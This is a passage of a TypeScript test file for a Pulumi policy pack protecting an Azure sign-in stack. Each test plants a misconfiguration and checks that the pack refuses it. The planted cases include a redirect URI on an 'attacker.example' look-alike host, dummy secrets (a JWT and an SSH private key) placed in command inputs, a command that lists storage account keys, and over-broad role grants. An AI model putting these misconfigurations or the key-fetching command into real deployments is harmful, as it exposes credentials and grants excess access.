            'in group "rg-prod", which this stack does not create',
        ),
      ],
    ],
  },
  {
    shape: "pull requests trusted by the deploy identity, which holds Contributor",
    add: (rs) =>
      rs.push(
        handMade("azure-native:managedidentity:FederatedIdentityCredential", "ci-deployer-prs", {
          resourceGroupName: "rg-ci",
          resourceName: "ci-deployer",
          issuer: GITHUB_ISSUER,
          subject: "repo:contoso/secretless-signin:pull_request",
          audiences: ["api://AzureADTokenExchange"],
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        new RegExp(
          String.raw`RoleAssignment "ci-deployer-contributor" gives CI identity "ci-deployer" \(which pull requests' ` +
            String.raw`code can use\) role Contributor .* which it may not hold \(allowed: Reader, ` +
            "StorageBlobDataReader, " +
            String.raw`KeyVaultCryptoUser\)`,
        ),
      ],
    ],
  },
  {
    shape: "Reader for a service principal this stack does not create",
    add: (rs) =>
      rs.push(
        handMade("azure-native:authorization:RoleAssignment", "outsider", {
          scope: `/subscriptions/${SUBSCRIPTION_ID}/resourceGroups/rg-ci`,
          principalId: guidFrom("outsider"),
          principalType: "ServicePrincipal",
          roleDefinitionId: roleId("acdd72a7-3385-48ef-bd42-f606fba81ae7"),
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        /RoleAssignment "outsider" gives principal "[^"]+", which this stack does not create role Reader/,
      ],
    ],
  },
  {
    shape: "Redis data access for the CI identity",
    add: (rs) =>
      rs.push(
        handMade("azure-native:redisenterprise:AccessPolicyAssignment", "ci-redis", {
          resourceGroupName: group(rs),
          clusterName: "c",
          databaseName: "default",
          accessPolicyName: "default",
          user: { objectId: one(rs, T.uami, "ci-deployer").state.principalId },
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        new RegExp(
          'AccessPolicyAssignment "ci-redis" gives Redis data access ' +
            'to "[^"]+", which is not the principal ' +
            "ID of an identity a web app of this stack wears",
        ),
      ],
    ],
  },
  {
    shape: "a redirect URI on a look-alike host, with user info and another port",
    add: (rs) =>
      edit(
        one(rs, T.redirect),
        (p) =>
          (p.redirectUris = [
            ...p.redirectUris,
            `https://${site(rs).state.defaultHostName}.attacker.example/signin-oidc`,
            `https://u:p@${site(rs).state.defaultHostName}/x`,
            `https://${site(rs).state.defaultHostName}:8443/x`,
          ]),
      ),
    refusedBy: [
      [
        "redirect-uris-own-host",
        new RegExp(
          String.raw`redirect URI "https:\/\/secretless-signin-dev[^"]*\.attacker\.example\/signin-oidc" .*not one ` +
            "of this stack's web apps",
        ),
      ],
      ["redirect-uris-own-host", /redirect URI "https:\/\/u:p@[^"]+" .*carries user info/],
      ["redirect-uris-own-host", /redirect URI "https:\/\/[^"]+:8443\/x" .*names port 8443/],
    ],
  },
  {
    shape: "a JWT in the deploy command's environment under an innocuous name and a private key in a remote connection",
    add: (rs) => {
      edit(
        one(rs, "command:local:Command", "secretless-app-deploy"),
        (p) => (p.environment.HINT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2ln"),
      );
      rs.push(
        handMade("command:remote:Command", "ssh", {
          create: "true",
          connection: {
            host: "h",
            privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nx\n-----END OPENSSH PRIVATE KEY-----",
          },
        }),
      );
    },
    refusedBy: [
      [
        "no-secret-command-inputs",
        new RegExp(
          String.raw`Command "secretless-app-deploy" has input "environment\.HINT" that looks like a secret: its ` +
            "value " +
            "looks like a JWT",
        ),
      ],
      [
        "no-secret-command-inputs",
        /Command "ssh" has input "connection\.privateKey" that looks like a secret: its name contains "privatekey"/,
      ],
    ],
  },
  {
    shape: "a GitHub subject mixing the classic and immutable forms, and one with a wildcard branch",
    add: (rs) => {
      const ci = one(rs, "azure-native:managedidentity:FederatedIdentityCredential", "ci-deployer-production");
      edit(ci, (p) => (p.subject = "repo:contoso@1234/secretless-signin:environment:production"));
      rs.push(
        handMade(ci.type, "ci-branches", {
          ...ci.inputs,
          subject: "repo:contoso@1234/secretless-signin@5678:ref:refs/heads/*",
        }),
      );
    },
    refusedBy: [
      [
        "fic-subject",
        new RegExp(
          'FederatedIdentityCredential "ci-deployer-production" trusts GitHub subject ' +
            String.raw`"repo:contoso@1234\/secretless-signin:environment:production"`,
        ),
      ],
      [
        "fic-subject",
        new RegExp(
          'FederatedIdentityCredential "ci-branches" trusts GitHub subject ' +
            String.raw`"repo:contoso@1234\/secretless-signin@5678:ref:refs\/heads\/\*"`,
        ),
      ],
    ],
  },
  {
    shape: "a Graph application permission assigned to the app's own identity",
    add: (rs) =>
      rs.push(
        handMade("azuread:index/appRoleAssignment:AppRoleAssignment", "app-graph", {
          appRoleId: guidFrom("graph:role:Directory.ReadWrite.All"),
          principalObjectId: appIdentity(rs).state.principalId,
          resourceObjectId: guidFrom("graph-sp"),
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        new RegExp(
          'AppRoleAssignment "app-graph" gives an application permission to identity ' +
            String.raw`"secretless-identity-uami\w+", ` +
            String.raw`which is not a CI identity of this stack \(a web app wears it`,
        ),
      ],
    ],
  },
  {
    shape: "a deploy step that fetches a storage key at run time instead of carrying one",
    add: (rs) =>
      rs.push(
        handMade("command:local:Command", "keys", {
          create: "az storage account keys list -n state --query [0].value -o tsv",
        }),
      ),
    refusedBy: [
      [
        "command-runs-project-script",
        /Command "keys" has create "az storage account keys list[^"]*", not one of the project's deploy scripts/,
      ],
    ],
  },
  {
    shape: "a connection-strings resource with a lower-case accountkey=",
    add: (rs) =>
      rs.push(
        handMade("azure-native:web:WebAppConnectionStrings", "conns", {
          name: "x",
          resourceGroupName: "rg",
          properties: {
            Blob: { value: "defaultendpointsprotocol=https;accountname=x;accountkey=abc==", type: "Custom" },
          },
        }),
      ),
    refusedBy: [
      [
        "no-secret-settings",
        new RegExp(
          'WebAppConnectionStrings "conns" has connection string ' +
            '"Blob" that looks like a secret: its value ' +
            "looks like a storage or service account key",
        ),
      ],
    ],
  },
];

describe.each([...fromIssue, ...fromAttacks])("the pack refuses $shape", ({ add, refusedBy }) => {
  it("with a message naming the resource, from each rule that owns it", () => {
    const rs = compliant();
    add(rs);
    const violations = evaluateRecorded(rs, PACK_CONTEXT);
    for (const [rule, message] of refusedBy) {
      expect(
        violations.filter((v) => v.policy === rule).map((v) => v.message),
        rule,
      ).toContainEqual(expect.stringMatching(message));
    }
  });
});

describe("the corpus", () => {
  it("holds every shape issue 17 lists, and each names a real rule", () => {
    expect(fromIssue).toHaveLength(13);
    const names = new Set(rules.map((r) => r.name));
    expect(
      [...fromIssue, ...fromAttacks].flatMap((s) => s.refusedBy.map(([rule]) => rule)).filter((r) => !names.has(r)),
    ).toEqual([]);
  });
});

/** Every resource type token the installed provider SDKs define (`__pulumiType = '…'` in each resource module). */
function sdkTypes(): string[] {
  const root = join(REPO, "node_modules", "@pulumi");
  const tokens = new Set<string>();
  const scan = (dir: string, depth: number) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory() && depth > 0 && !["types", "config", "node_modules"].includes(entry.name))
        scan(path, depth - 1);
      else if (entry.isFile() && entry.name.endsWith(".js")) {
        const m = /__pulumiType = '([^']+)'/.exec(readFileSync(path, "utf8"));
        if (m) tokens.add(m[1]!);
      }
    }
  };
  scan(join(root, "azure-native"), 1);
  scan(join(root, "azuread"), 0);
  scan(join(root, "command"), 1);
  scan(join(root, "github"), 0);
  return [...tokens].sort();
}

describe("the allow-list, checked against every type the provider SDKs define", () => {
  const types = sdkTypes();
  const allowed = new Set(ALLOWED_TYPES.map((t) => t.type));
  const refused = (type: string) =>
    evaluateRecorded([handMade(type, "probe", {})]).filter(
      (v) =>
        v.policy === "resource-type-allowed" &&
        v.message.startsWith(`${type} "probe" is not a resource type this pack allows`),
    );

  it("finds thousands of types in the installed SDKs, and every allowed resource type among them", () => {
    expect(types.length).toBeGreaterThan(2000);
    const custom = ALLOWED_TYPES.filter((t) => !t.type.startsWith("pulumi:") && !t.type.startsWith("secretless:")).map(
      (t) => t.type,
    );
    expect(custom.filter((t) => !types.includes(t))).toEqual([]);
  });

  it("refuses every other type, naming it and how to extend the list", () => {
    const notRefused = types.filter((t) => !allowed.has(t) && refused(t).length !== 1);
    expect(notRefused).toEqual([]);
    expect(types.filter((t) => !allowed.has(t)).length).toBeGreaterThan(2000);
  });

  it("refuses each allowed type's token in another casing or an API-version module", () => {
    const variants = [...allowed].flatMap((t) => {
      const [pkg, module, name] = t.split(":") as [string, string, string];
      return [t.toUpperCase(), `${pkg}:${module}/v20240401:${name}`, `${pkg}:${module}:${name.toLowerCase()}`].filter(
        (v) => v !== t,
      );
    });
    expect(variants.filter((v) => refused(v).length !== 1)).toEqual([]);
  });

  it("names, for each allowed type, rules that exist and apply to it", () => {
    const byName = new Map(rules.map((r) => [r.name, r]));
    const wrong = ALLOWED_TYPES.flatMap((t) =>
      t.checkedBy
        .filter((name) => {
          const rule = byName.get(name);
          return !rule || (rule.kind === "resource" && !rule.appliesTo(t.type));
        })
        .map((name) => `${t.type}: ${name}`),
    );
    expect(wrong).toEqual([]);
  });
});
